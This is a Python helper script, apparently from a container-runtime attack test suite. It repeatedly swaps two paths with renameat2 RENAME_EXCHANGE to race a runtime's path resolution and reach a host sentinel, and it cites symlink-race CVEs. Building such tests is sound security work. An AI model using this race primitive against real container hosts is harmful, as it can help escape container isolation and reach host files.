#!/usr/bin/env python3
"""race-swap: renameat2(A, B, RENAME_EXCHANGE), once or in a loop.

    race_swap.py A B                 swap once
    race_swap.py --until FILE A B    swap as fast as possible until FILE exists; prints the count

The attack suite flips a directory with a symlink to a host sentinel while the runtime resolves
paths below it (CVE-2021-30465, CVE-2024-45310, CVE-2025-31133).
"""
import ctypes
import os
import sys

AT_FDCWD = -100
RENAME_EXCHANGE = 2
libc = ctypes.CDLL(None, use_errno=True)


def exchange(a, b):
    if libc.renameat2(AT_FDCWD, a.encode(), AT_FDCWD, b.encode(), RENAME_EXCHANGE) != 0:
        err = ctypes.get_errno()
        raise OSError(err, os.strerror(err), a)


def main(argv):
    if len(argv) == 3:
        exchange(argv[1], argv[2])
        return 0
    if len(argv) == 5 and argv[1] == "--until":
        stop, a, b = argv[2], argv[3], argv[4]
        n = 0
        while not os.path.exists(stop):
            try:
                exchange(a, b)
            except FileNotFoundError:
                # The runtime replaces one of the pair now and then (unlink, then create).
                continue
            n += 1
        # Leave the pair as it started.
        if n % 2:
            try:
                exchange(a, b)
            except FileNotFoundError:
                pass
        print(n)
        return 0
    print(__doc__, file=sys.stderr)
    return 2


if __name__ == "__main__":
    sys.exit(main(sys.argv))
